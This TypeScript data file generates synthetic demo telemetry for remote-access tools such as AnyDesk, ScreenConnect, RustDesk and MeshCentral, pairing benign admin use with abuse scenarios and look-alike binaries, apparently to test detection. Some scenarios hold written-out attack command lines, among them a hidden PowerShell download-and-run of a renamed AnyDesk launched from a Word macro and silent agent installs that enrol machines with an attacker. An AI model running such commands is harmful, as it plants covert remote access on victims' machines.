// The demo fleet's remote-access tools as data: each tool's binaries (names, version info, signers) and its
// stories (legitimate IT use, abuse, look-alikes). Adding a tool to the demo is one more entry here; the
// generator (demo-tools.ts) reads nothing else. Addresses are from the documentation ranges (RFC 5737).

import { MREMOTENG } from './demo-tool-stories-mremoteng';
import type { ToolBinary, ToolDestination, ToolSpec, ToolStory } from './demo-tool-story';

const PF = 'C:\\Program Files';
const PF86 = 'C:\\Program Files (x86)';
const DOWNLOADS = 'C:\\Users\\{user}\\Downloads';
const ROAMING = 'C:\\Users\\{user}\\AppData\\Roaming';
const LOCAL = 'C:\\Users\\{user}\\AppData\\Local';
const POWERSHELL = 'powershell.exe';

const dest = (url: string, remoteIp: string, remotePort = 443): ToolDestination => ({
  url,
  remoteIp,
  remotePort,
});

/** A look-alike: its product, company, signer and domain contain the tool's name, but never as a whole term. */
function lookalike(
  fileName: string,
  product: string,
  company: string,
  folder: string,
  domain: string,
  remoteIp: string,
): { binary: ToolBinary; story: ToolStory } {
  return {
    binary: {
      fileName,
      originalFileName: fileName,
      product,
      company,
      description: `${product} desktop client`,
      version: '3.2.1.0',
      folder,
      size: 3_145_728,
      signer: { signer: company, issuer: 'Sectigo Public Code Signing CA R36', isTrusted: true },
    },
    story: {
      id: 'look-alike',
      kind: 'near-miss',
      summary: `${product} (${company}) talks to ${domain}: a substring of the tool's name, not the tool.`,
      devices: { prefer: ['client'], share: 0.002, min: 1 },
      days: { from: 30 },
      trend: 'steady',
      perDay: 0.6,
      timing: 'business',
      binary: 'lookalike',
      parent: 'explorer.exe',
      command: '"{path}"',
      account: 'user',
      network: { destinations: [dest(domain, remoteIp)], perLaunch: 1.5 },
    },
  };
}

const anydeskLookalike = lookalike(
  'AnyDeskSync.exe',
  'AnyDeskSync',
  'AnyDeskSync Tools Ltd',
  `${LOCAL}\\Programs\\AnyDeskSync`,
  'notanydesk.example',
  '198.51.100.41',
);
const ANYDESK_RELAYS = [
  dest('boot.net.anydesk.com', '203.0.113.21'),
  dest('relay-7c41e2a9.net.anydesk.com', '203.0.113.22'),
  dest('relay-0b93d5f1.net.anydesk.com', '203.0.113.23', 6568),
];
const ANYDESK_SIGNER = {
  signer: 'AnyDesk Software GmbH',
  issuer: 'DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1',
  isTrusted: true,
};

const anydesk: ToolSpec = {
  tool: 'AnyDesk',
  binaries: {
    installed: {
      fileName: 'AnyDesk.exe',
      originalFileName: 'AnyDesk.exe',
      product: 'AnyDesk',
      company: 'AnyDesk Software GmbH',
      description: 'AnyDesk',
      version: '8.1.0',
      folder: `${PF86}\\AnyDesk`,
      size: 5_234_096,
      signer: ANYDESK_SIGNER,
    },
    portable: {
      fileName: 'AnyDesk.exe',
      originalFileName: 'AnyDesk.exe',
      product: 'AnyDesk',
      company: 'AnyDesk Software GmbH',
      description: 'AnyDesk',
      version: '8.0.14',
      folder: DOWNLOADS,
      size: 5_101_568,
      signer: ANYDESK_SIGNER,
    },
    renamed: {
      fileName: 'igfxsvc.exe',
      originalFileName: 'AnyDesk.exe',
      product: 'AnyDesk',
      company: 'AnyDesk Software GmbH',
      description: 'AnyDesk',
      version: '8.0.14',
      folder: 'C:\\ProgramData\\Intel\\Graphics',
      size: 5_101_568,
      signer: ANYDESK_SIGNER,
      copyOf: 'portable',
    },
    lookalike: anydeskLookalike.binary,
  },
  stories: [
    {
      id: 'helpdesk-service',
      kind: 'benign-admin',
      summary: 'The help desk keeps AnyDesk installed as a service on its jump hosts and its own machines.',
      devices: { prefer: ['server:jump', 'it-admin-client'], share: 0.006, min: 2 },
      days: { from: 30 },
      trend: 'steady',
      perDay: 1.2,
      timing: 'service',
      binary: 'installed',
      parent: 'services.exe',
      command: '"{path}" --service',
      account: 'system',
      network: { destinations: ANYDESK_RELAYS, perLaunch: 2 },
    },
    {
      id: 'portable-download',
      kind: 'suspicious',
      summary: 'Users run a portable AnyDesk from Downloads after a "support" call, a few days each.',
      devices: { prefer: ['laptop', 'client'], share: 0.004, min: 1 },
      days: { from: 30 },
      trend: 'burst',
      perDay: 2,
      timing: 'anytime',
      binary: 'portable',
      parent: 'explorer.exe',
      command: '"{path}"',
      account: 'user',
      network: { destinations: ANYDESK_RELAYS, perLaunch: 2 },
    },
    {
      id: 'renamed-from-macro',
      kind: 'suspicious',
      summary:
        'A Word macro starts PowerShell, which drops AnyDesk as igfxsvc.exe in ProgramData and starts it.',
      devices: { prefer: ['client'], share: 0.002, min: 1 },
      days: { from: 3 },
      trend: 'steady',
      perDay: 3,
      timing: 'anytime',
      binary: 'renamed',
      parent: 'powershell.exe',
      grandparent: 'WINWORD.EXE',
      parentCommand: `${POWERSHELL} -nop -w hidden -c "iwr https://download.anydesk.com/AnyDesk.exe -OutFile {path}; & {path} --install C:\\ProgramData\\Intel\\Graphics --start-with-win --silent"`,
      command: '"{path}" --silent',
      account: 'user',
      network: { destinations: ANYDESK_RELAYS, perLaunch: 3 },
    },
    anydeskLookalike.story,
  ],
};

const SCREENCONNECT_DIR = `${PF86}\\ScreenConnect Client (4f1c2e9a7b3d5e60)`;
const CONNECTWISE_SIGNER = {
  signer: 'ConnectWise, LLC',
  issuer: 'DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1',
  isTrusted: true,
};
const screenconnectLookalike = lookalike(
  'MyScreenConnector.exe',
  'MyScreenConnector',
  'MyScreenConnector Inc',
  `${PF}\\MyScreenConnector`,
  'myscreenconnect.example',
  '198.51.100.42',
);

const screenconnect: ToolSpec = {
  tool: 'ScreenConnect',
  binaries: {
    service: {
      fileName: 'ScreenConnect.ClientService.exe',
      originalFileName: 'ScreenConnect.ClientService.exe',
      product: 'ScreenConnect',
      company: 'ScreenConnect Software',
      description: 'ScreenConnect Client Service',
      version: '24.2.10.8991',
      folder: SCREENCONNECT_DIR,
      size: 95_680,
      signer: CONNECTWISE_SIGNER,
    },
    invoice: {
      fileName: 'Invoice_Nov_0932.exe',
      originalFileName: 'ScreenConnect.WindowsClient.exe',
      product: 'ScreenConnect',
      company: 'ScreenConnect Software',
      description: 'ScreenConnect Client',
      version: '24.2.10.8991',
      folder: DOWNLOADS,
      size: 688_576,
      signer: CONNECTWISE_SIGNER,
    },
    lookalike: screenconnectLookalike.binary,
  },
  stories: [
    {
      id: 'managed-servers',
      kind: 'benign-admin',
      summary: 'The managed-services partner reaches application servers through its ScreenConnect instance.',
      devices: { prefer: ['server:app', 'server:web'], share: 0.005, min: 2 },
      days: { from: 30 },
      trend: 'steady',
      perDay: 1,
      timing: 'service',
      binary: 'service',
      parent: 'services.exe',
      command:
        '"{path}" "?e=Access&y=Guest&h=contoso-msp.screenconnect.com&p=443&s={id}&k=BgIAAACkAABSU0ExAAgAAAEAAQ"',
      account: 'system',
      network: {
        destinations: [
          dest('contoso-msp.screenconnect.com', '203.0.113.31'),
          dest('control.connectwise.com', '203.0.113.32'),
        ],
        perLaunch: 2,
      },
    },
    {
      id: 'invoice-phish',
      kind: 'suspicious',
      summary:
        'A phished user opens "Invoice_Nov_0932.exe" from Outlook: a ScreenConnect client for a stranger.',
      devices: { prefer: ['client'], share: 0.002, min: 1 },
      days: { from: 4 },
      trend: 'steady',
      perDay: 2,
      timing: 'anytime',
      binary: 'invoice',
      parent: 'outlook.exe',
      command: '"{path}" "?e=Access&y=Guest&h=relay-k3v9q2.screenconnect.com&p=8041&s={id}"',
      account: 'user',
      network: { destinations: [dest('relay-k3v9q2.screenconnect.com', '192.0.2.51', 8041)], perLaunch: 2 },
    },
    screenconnectLookalike.story,
  ],
};

const TEAMVIEWER_SIGNER = {
  signer: 'TeamViewer Germany GmbH',
  issuer: 'DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1',
  isTrusted: true,
};
const TEAMVIEWER_ROUTERS = [
  dest('router11.teamviewer.com', '203.0.113.41', 5938),
  dest('client.teamviewer.com', '203.0.113.42'),
  dest('ping3.teamviewer.com', '203.0.113.43'),
];
const teamviewerLookalike = lookalike(
  'TeamViewerFans.exe',
  'TeamViewerFans',
  'TeamViewerFans Club',
  `${LOCAL}\\TeamViewerFans`,
  'teamviewerfans.example',
  '198.51.100.43',
);

const teamviewer: ToolSpec = {
  tool: 'TeamViewer',
  binaries: {
    service: {
      fileName: 'TeamViewer_Service.exe',
      originalFileName: 'TeamViewer_Service.exe',
      product: 'TeamViewer',
      company: 'TeamViewer Germany GmbH',
      description: 'TeamViewer 15',
      version: '15.60.3',
      folder: `${PF}\\TeamViewer`,
      size: 15_802_184,
      signer: TEAMVIEWER_SIGNER,
    },
    quicksupport: {
      fileName: 'TeamViewerQS.exe',
      originalFileName: 'TeamViewerQS.exe',
      product: 'TeamViewer',
      company: 'TeamViewer Germany GmbH',
      description: 'TeamViewer QuickSupport',
      version: '15.59.5',
      folder: DOWNLOADS,
      size: 33_251_616,
      signer: TEAMVIEWER_SIGNER,
    },
    lookalike: teamviewerLookalike.binary,
  },
  stories: [
    {
      id: 'it-service',
      kind: 'benign-admin',
      summary: 'IT staff keep the TeamViewer service on their own machines for vendor support sessions.',
      devices: { prefer: ['it-admin-client'], share: 0.004, min: 2 },
      days: { from: 30 },
      trend: 'steady',
      perDay: 1,
      timing: 'service',
      binary: 'service',
      parent: 'services.exe',
      command: '"{path}"',
      account: 'system',
      network: { destinations: TEAMVIEWER_ROUTERS, perLaunch: 2 },
    },
    {
      id: 'quicksupport-from-browser',
      kind: 'suspicious',
      summary: 'A user downloads TeamViewer QuickSupport in Chrome and starts it from the browser.',
      devices: { prefer: ['workstation', 'client'], share: 0.003, min: 1 },
      days: { from: 30 },
      trend: 'adopting',
      perDay: 1,
      timing: 'anytime',
      binary: 'quicksupport',
      parent: 'chrome.exe',
      command: '"{path}"',
      account: 'user',
      network: { destinations: TEAMVIEWER_ROUTERS, perLaunch: 2 },
    },
    teamviewerLookalike.story,
  ],
};

const ATERA_DIR = `${PF}\\ATERA Networks\\AteraAgent`;
const ATERA_SIGNER = {
  signer: 'Atera Networks Ltd',
  issuer: 'DigiCert SHA2 Assured ID Code Signing CA',
  isTrusted: true,
};
const ATERA_ENDPOINTS = [
  dest('pubsub.atera.com', '203.0.113.51'),
  dest('agent-api.atera.com', '203.0.113.52'),
  dest('agentreporting.atera.com', '203.0.113.53'),
];
const ateraLookalike = lookalike(
  'LateralPad.exe',
  'LateralPad',
  'Lateral Pad Ltd',
  `${LOCAL}\\LateralPad`,
  'lateralpad.example',
  '198.51.100.44',
);

const atera: ToolSpec = {
  tool: 'Atera',
  binaries: {
    agent: {
      fileName: 'AteraAgent.exe',
      originalFileName: 'AteraAgent.exe',
      product: 'AteraAgent',
      company: 'Atera networks',
      description: 'AteraAgent',
      version: '1.8.7.2',
      folder: ATERA_DIR,
      size: 590_176,
      signer: ATERA_SIGNER,
    },
    lookalike: ateraLookalike.binary,
  },
  stories: [
    {
      id: 'msp-agent',
      kind: 'benign-admin',
      summary: 'The print and file servers are monitored by the outsourcing partner with the Atera agent.',
      devices: { prefer: ['server:print', 'server:fs'], share: 0.006, min: 2 },
      days: { from: 30 },
      trend: 'steady',
      perDay: 1.5,
      timing: 'service',
      binary: 'agent',
      parent: 'services.exe',
      command: '"{path}"',
      account: 'system',
      network: { destinations: ATERA_ENDPOINTS, perLaunch: 2 },
    },
    {
      id: 'trial-install',
      kind: 'suspicious',
      summary: 'An intruder registers a free Atera trial and installs its agent on a laptop through msiexec.',
      devices: { prefer: ['laptop', 'client'], share: 0.002, min: 1 },
      days: { from: 2 },
      trend: 'steady',
      perDay: 4,
      timing: 'anytime',
      binary: 'agent',
      parent: 'msiexec.exe',
      grandparent: 'cmd.exe',
      parentCommand:
        '"C:\\Windows\\system32\\msiexec.exe" /i C:\\Users\\Public\\setup.msi /qn IntegratorLogin=helpdesk.it.{id}@proton.me CompanyId=1',
      command: '"{path}" /i IntegratorLogin=helpdesk.it.{id}@proton.me CompanyId=1',
      account: 'user',
      parentAccount: 'user',
      network: { destinations: ATERA_ENDPOINTS, perLaunch: 3 },
    },
    ateraLookalike.story,
  ],
};

const SPLASHTOP_SIGNER = {
  signer: 'Splashtop Inc.',
  issuer: 'DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1',
  isTrusted: true,
};
const SPLASHTOP_RELAYS = [
  dest('st2-v3-dc.splashtop.com', '203.0.113.61'),
  dest('relay.splashtop.com', '203.0.113.62'),
];
const splashtopLookalike = lookalike(
  'Splashtopia.exe',
  'Splashtopia',
  'Splashtopia Games',
  `${LOCAL}\\Splashtopia`,
  'splashtopia.example',
  '198.51.100.45',
);

const splashtop: ToolSpec = {
  tool: 'Splashtop',
  binaries: {
    streamer: {
      fileName: 'SRService.exe',
      originalFileName: 'SRService.exe',
      product: 'Splashtop® Remote Service',
      company: 'Splashtop Inc.',
      description: 'Splashtop® Remote Service',
      version: '3.7.2.4',
      folder: `${PF86}\\Splashtop\\Splashtop Remote\\Server`,
      size: 3_980_200,
      signer: SPLASHTOP_SIGNER,
    },
    userStreamer: {
      fileName: 'SRServer.exe',
      originalFileName: 'SRServer.exe',
      product: 'Splashtop® Remote Service',
      company: 'Splashtop Inc.',
      description: 'Splashtop® Remote Server',
      version: '3.7.2.4',
      folder: `${ROAMING}\\Splashtop\\Server`,
      size: 6_710_312,
      signer: SPLASHTOP_SIGNER,
    },
    lookalike: splashtopLookalike.binary,
  },
  stories: [
    {
      id: 'rds-streamer',
      kind: 'benign-admin',
      summary: 'The remote-desktop farm runs the Splashtop streamer for the service desk.',
      devices: { prefer: ['server:rds'], share: 0.003, min: 1 },
      days: { from: 30 },
      trend: 'steady',
      perDay: 1,
      timing: 'service',
      binary: 'streamer',
      parent: 'services.exe',
      command: '"{path}"',
      account: 'system',
      network: { destinations: SPLASHTOP_RELAYS, perLaunch: 2 },
    },
    {
      id: 'streamer-from-cmd',
      kind: 'suspicious',
      summary: 'A batch file copies the Splashtop streamer into AppData and starts it from cmd.exe.',
      devices: { prefer: ['workstation', 'client'], share: 0.002, min: 1 },
      days: { from: 30 },
      trend: 'adopting',
      perDay: 1.5,
      timing: 'anytime',
      binary: 'userStreamer',
      parent: 'cmd.exe',
      parentCommand: 'cmd.exe /c "C:\\Users\\Public\\st.bat"',
      command: '"{path}" -h',
      account: 'user',
      network: { destinations: SPLASHTOP_RELAYS, perLaunch: 2 },
    },
    splashtopLookalike.story,
  ],
};

const RUSTDESK_SERVERS = [
  dest('rs-ny.rustdesk.com', '203.0.113.71', 21116),
  dest('api.rustdesk.com', '203.0.113.72'),
];
const rustdeskLookalike = lookalike(
  'TrustDesk.exe',
  'TrustDesk',
  'TrustDesk Software',
  `${PF}\\TrustDesk`,
  'trustdesk.example',
  '198.51.100.46',
);

const rustdesk: ToolSpec = {
  tool: 'RustDesk',
  binaries: {
    // Self-built copies are common: unsigned, so no signer rows.
    portable: {
      fileName: 'rustdesk.exe',
      originalFileName: 'rustdesk.exe',
      product: 'RustDesk',
      company: 'Purslane Ltd',
      description: 'RustDesk Remote Desktop',
      version: '1.3.2',
      folder: `${LOCAL}\\rustdesk`,
      size: 21_441_024,
    },
    renamed: {
      fileName: 'OneDriveUpdate.exe',
      originalFileName: 'rustdesk.exe',
      product: 'RustDesk',
      company: 'Purslane Ltd',
      description: 'RustDesk Remote Desktop',
      version: '1.3.2',
      folder: `${ROAMING}\\Microsoft\\OneDriveUpdate`,
      size: 21_441_024,
      copyOf: 'portable',
    },
    lookalike: rustdeskLookalike.binary,
  },
  stories: [
    {
      id: 'portable-user',
      kind: 'suspicious',
      summary: 'Users run a portable RustDesk from their profile, around the clock.',
      devices: { prefer: ['laptop', 'client'], share: 0.003, min: 1 },
      days: { from: 30 },
      trend: 'adopting',
      perDay: 1.2,
      timing: 'anytime',
      binary: 'portable',
      parent: 'explorer.exe',
      command: '"{path}"',
      account: 'user',
      network: { destinations: RUSTDESK_SERVERS, perLaunch: 2 },
    },
    {
      id: 'renamed-persistence',
      kind: 'suspicious',
      summary: 'A script host installs RustDesk as OneDriveUpdate.exe in AppData for persistence.',
      devices: { prefer: ['client'], share: 0.001, min: 1 },
      days: { from: 5 },
      trend: 'steady',
      perDay: 2,
      timing: 'anytime',
      binary: 'renamed',
      parent: 'wscript.exe',
      parentCommand:
        '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\{user}\\AppData\\Local\\Temp\\upd_{n}.js"',
      command: '"{path}" --silent-install',
      account: 'user',
      network: { destinations: RUSTDESK_SERVERS, perLaunch: 2 },
    },
    rustdeskLookalike.story,
  ],
};

const MESH_DIR = `${PF}\\Mesh Agent`;
const meshLookalike = lookalike(
  'FreshMeshCentralizer.exe',
  'FreshMeshCentralizer',
  'FreshMeshCentralizer Ltd',
  `${PF}\\FreshMeshCentralizer`,
  'freshmeshcentral.example',
  '198.51.100.47',
);

const meshcentral: ToolSpec = {
  tool: 'MeshCentral',
  binaries: {
    // MeshCentral servers sign the agents they hand out with their own certificate: no stable signer.
    agent: {
      fileName: 'MeshAgent.exe',
      originalFileName: 'MeshAgent.exe',
      product: 'MeshCentral Background Service Agent',
      company: 'MeshCentral',
      description: 'MeshCentral Background Service Agent',
      version: '1.1.23',
      folder: MESH_DIR,
      size: 3_521_536,
    },
    lookalike: meshLookalike.binary,
  },
  stories: [
    {
      id: 'public-server-agent',
      kind: 'suspicious',
      summary:
        'A MeshCentral agent joined to the public meshcentral.com server appears as a service on servers.',
      devices: { prefer: ['server:app', 'server:db', 'server'], share: 0.002, min: 1 },
      days: { from: 6 },
      trend: 'adopting',
      perDay: 2,
      timing: 'service',
      binary: 'agent',
      parent: 'services.exe',
      command: '"{path}"',
      account: 'system',
      network: { destinations: [dest('meshcentral.com', '203.0.113.81')], perLaunch: 2 },
    },
    {
      id: 'agent-from-script',
      kind: 'suspicious',
      summary: 'cmd.exe under a script host installs the MeshCentral agent on a workstation.',
      devices: { prefer: ['workstation', 'client'], share: 0.001, min: 1 },
      days: { from: 4 },
      trend: 'steady',
      perDay: 2,
      timing: 'anytime',
      binary: 'agent',
      parent: 'cmd.exe',
      grandparent: 'wscript.exe',
      parentCommand: 'cmd.exe /c "C:\\Users\\Public\\meshagent64.exe -fullinstall"',
      command: '"{path}" -fullinstall',
      account: 'user',
      network: { destinations: [dest('meshcentral.com', '203.0.113.81')], perLaunch: 2 },
    },
    meshLookalike.story,
  ],
};

const NETSUPPORT_SIGNER = {
  signer: 'NetSupport Ltd',
  issuer: 'DigiCert SHA2 Assured ID Code Signing CA',
  isTrusted: true,
};
const netsupportLookalike = lookalike(
  'MyNetSupporter.exe',
  'MyNetSupporter',
  'MyNetSupporter GmbH',
  `${LOCAL}\\MyNetSupporter`,
  'mynetsupport.example',
  '198.51.100.48',
);

const netsupport: ToolSpec = {
  tool: 'NetSupport Manager',
  binaries: {
    classroom: {
      fileName: 'client32.exe',
      originalFileName: 'client32.exe',
      product: 'NetSupport Remote Control',
      company: 'NetSupport Ltd',
      description: 'NetSupport Client Application',
      version: '14.10.0.0',
      folder: `${PF86}\\NetSupport\\NetSupport Manager`,
      size: 117_648,
      signer: NETSUPPORT_SIGNER,
    },
    rat: {
      fileName: 'client32.exe',
      originalFileName: 'client32.exe',
      product: 'NetSupport Remote Control',
      company: 'NetSupport Ltd',
      description: 'NetSupport Client Application',
      version: '12.10.0.0',
      folder: `${ROAMING}\\WinUpd7k2`,
      size: 117_168,
      signer: NETSUPPORT_SIGNER,
    },
    lookalike: netsupportLookalike.binary,
  },
  stories: [
    {
      id: 'training-room',
      kind: 'benign-admin',
      summary: 'Training-room workstations run the NetSupport client for the trainers.',
      devices: { prefer: ['workstation'], share: 0.005, min: 1 },
      days: { from: 30 },
      trend: 'steady',
      perDay: 1,
      timing: 'business',
      binary: 'classroom',
      parent: 'services.exe',
      command: '"{path}" /* ',
      account: 'system',
    },
    {
      id: 'js-dropper-rat',
      kind: 'suspicious',
      summary:
        'A JavaScript attachment unpacks the NetSupport client into AppData; it asks geo.netsupportsoftware.com where it is.',
      devices: { prefer: ['client'], share: 0.002, min: 1 },
      days: { from: 30 },
      trend: 'adopting',
      perDay: 2,
      timing: 'anytime',
      binary: 'rat',
      parent: 'wscript.exe',
      parentCommand:
        '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\{user}\\Downloads\\Payment_Advice_{n}.js"',
      command: '"{path}"',
      account: 'user',
      network: {
        destinations: [dest('geo.netsupportsoftware.com', '203.0.113.91', 80)],
        perLaunch: 2,
      },
    },
    netsupportLookalike.story,
  ],
};

const GLAVSOFT_SIGNER = { signer: 'GlavSoft LLC.', issuer: 'Sectigo RSA Code Signing CA', isTrusted: true };

const tightvnc: ToolSpec = {
  tool: 'TightVNC',
  binaries: {
    server: {
      fileName: 'tvnserver.exe',
      originalFileName: 'tvnserver.exe',
      product: 'TightVNC',
      company: 'GlavSoft LLC.',
      description: 'TightVNC Server',
      version: '2.8.81',
      folder: `${PF}\\TightVNC`,
      size: 2_210_304,
      signer: GLAVSOFT_SIGNER,
    },
    dropped: {
      fileName: 'tvnserver.exe',
      originalFileName: 'tvnserver.exe',
      product: 'TightVNC',
      company: 'GlavSoft LLC.',
      description: 'TightVNC Server',
      version: '2.8.27',
      folder: 'C:\\Users\\Public\\Libraries',
      size: 2_048_512,
      signer: GLAVSOFT_SIGNER,
    },
    lookalike: {
      fileName: 'TightVNCSharp.exe',
      originalFileName: 'TightVNCSharp.exe',
      product: 'TightVNCSharp',
      company: 'TightVNCSharp Contributors',
      description: 'TightVNCSharp viewer',
      version: '0.4.0.0',
      folder: `${LOCAL}\\TightVNCSharp`,
      size: 1_048_576,
      signer: {
        signer: 'TightVNCSharp Contributors',
        issuer: 'Certum Code Signing 2021 CA',
        isTrusted: true,
      },
    },
  },
  stories: [
    {
      id: 'lab-servers',
      kind: 'benign-admin',
      summary: 'Lab application servers run TightVNC as a service for console access from the jump hosts.',
      devices: { prefer: ['server:app', 'server'], share: 0.003, min: 1 },
      days: { from: 30 },
      trend: 'steady',
      perDay: 1,
      timing: 'service',
      binary: 'server',
      parent: 'services.exe',
      command: '"{path}" -service',
      account: 'system',
      network: {
        destinations: [
          { url: '', remoteIp: '10.20.1.12', remotePort: 5900, actionType: 'InboundConnectionAccepted' },
        ],
        perLaunch: 1,
      },
    },
    {
      id: 'dropped-in-public',
      kind: 'suspicious',
      summary: 'An intruder drops TightVNC into C:\\Users\\Public\\Libraries and starts it from cmd.exe.',
      devices: { prefer: ['workstation', 'client'], share: 0.001, min: 1 },
      days: { from: 3 },
      trend: 'steady',
      perDay: 3,
      timing: 'anytime',
      binary: 'dropped',
      parent: 'cmd.exe',
      parentCommand: 'cmd.exe /c "C:\\Users\\Public\\Libraries\\tvnserver.exe -run"',
      command: '"{path}" -run',
      account: 'user',
      network: {
        destinations: [
          { url: '', remoteIp: '192.0.2.77', remotePort: 5900, actionType: 'InboundConnectionAccepted' },
        ],
        perLaunch: 1,
      },
    },
    {
      id: 'look-alike',
      kind: 'near-miss',
      summary: 'TightVNCSharp, a viewer whose name runs TightVNC into another word.',
      devices: { prefer: ['client'], share: 0.002, min: 1 },
      days: { from: 30 },
      trend: 'steady',
      perDay: 0.6,
      timing: 'business',
      binary: 'lookalike',
      parent: 'explorer.exe',
      command: '"{path}"',
      account: 'user',
    },
  ],
};

const KASEYA_DIR = `${PF86}\\Kaseya\\KCS7Q2MNB4XT9`;
const KASEYA_SIGNER = {
  signer: 'Kaseya Holdings Inc',
  issuer: 'DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1',
  isTrusted: true,
};
const KASEYA_ENDPOINTS = [
  dest('contoso-it.kaseya.net', '203.0.113.101', 5721),
  dest('deploy01.kaseya.com', '203.0.113.102'),
];
const kaseyaLookalike = lookalike(
  'MyKaseyaNotes.exe',
  'MyKaseyaNotes',
  'MyKaseyaNotes Ltd',
  `${LOCAL}\\MyKaseyaNotes`,
  'mykaseya.example',
  '198.51.100.49',
);

const kaseya: ToolSpec = {
  tool: 'Kaseya VSA',
  binaries: {
    agent: {
      fileName: 'AgentMon.exe',
      originalFileName: 'AgentMon.exe',
      product: 'Kaseya Agent',
      company: 'Kaseya',
      description: 'Kaseya Agent Monitor',
      version: '9.5.0.22',
      folder: KASEYA_DIR,
      size: 1_890_304,
      signer: KASEYA_SIGNER,
    },
    setup: {
      fileName: 'KcsSetup.exe',
      originalFileName: 'KcsSetup.exe',
      product: 'Kaseya Agent',
      company: 'Kaseya',
      description: 'Kaseya Agent Setup',
      version: '9.5.0.22',
      folder: DOWNLOADS,
      size: 4_380_672,
      signer: KASEYA_SIGNER,
    },
    lookalike: kaseyaLookalike.binary,
  },
  stories: [
    {
      id: 'msp-agent',
      kind: 'benign-admin',
      summary: 'Database and SQL servers are patched by the MSP through the Kaseya VSA agent.',
      devices: { prefer: ['server:db', 'server:sql'], share: 0.005, min: 2 },
      days: { from: 30 },
      trend: 'steady',
      perDay: 1.5,
      timing: 'service',
      binary: 'agent',
      parent: 'services.exe',
      command: '"{path}"',
      account: 'system',
      network: { destinations: KASEYA_ENDPOINTS, perLaunch: 2 },
    },
    {
      id: 'setup-from-downloads',
      kind: 'suspicious',
      summary:
        'A user runs a Kaseya agent installer from Downloads that enrols the laptop into a foreign VSA.',
      devices: { prefer: ['laptop', 'client'], share: 0.001, min: 1 },
      days: { from: 2 },
      trend: 'steady',
      perDay: 3,
      timing: 'anytime',
      binary: 'setup',
      parent: 'explorer.exe',
      command: '"{path}" /s /g=root.unnamed /c=vsa-{id}.kaseya.net',
      account: 'user',
      network: { destinations: [dest('vsa-7f2c9e1a.kaseya.net', '192.0.2.101', 5721)], perLaunch: 2 },
    },
    kaseyaLookalike.story,
  ],
};

/** Every tool the demo fleet runs (mRemoteNG's stories are in demo-tool-stories-mremoteng.ts). */
export const DEMO_TOOLS: readonly ToolSpec[] = [
  MREMOTENG,
  anydesk,
  screenconnect,
  teamviewer,
  atera,
  splashtop,
  rustdesk,
  meshcentral,
  netsupport,
  tightvnc,
  kaseya,
];
